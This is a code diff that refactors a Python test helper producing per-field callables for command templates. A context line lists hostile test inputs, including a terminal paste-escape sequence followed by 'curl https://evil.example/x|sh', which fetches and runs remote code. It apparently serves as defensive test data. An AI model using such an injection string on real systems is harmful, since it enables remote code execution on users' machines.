@@ -20,16 +20,16 @@ UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u20
 PLAIN = "one-word"
 
 
+def with_one(function: Callable[..., str], names: list[str], field: str) -> Callable[[str], str]:
+    """Return what fills in one field of a template, of which the others are plain."""
+    return lambda value: function(**{each: value if each == field else "x" for each in names})
+
+
 def of_templates() -> Iterator[tuple[str, Callable[[str], str]]]:
-    """Yield a call for each field of each template, whose other fields are plain."""
     for name, function in vars(commands).items():
-        if "template" in (given := inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}):
-            for field in given["names"]:
-                others = {each: "x" for each in given["names"] if each != field}
-                yield (
-                    f"{name} {field}",
-                    lambda value, function=function, others=others, field=field: function(**others, **{field: value}),
-                )
+        given = inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}
+        if "template" in given:
+            yield from ((f"{name} {field}", with_one(function, given["names"], field)) for field in given["names"])
 
 
 # A field of each template, and what makes a field of several values.
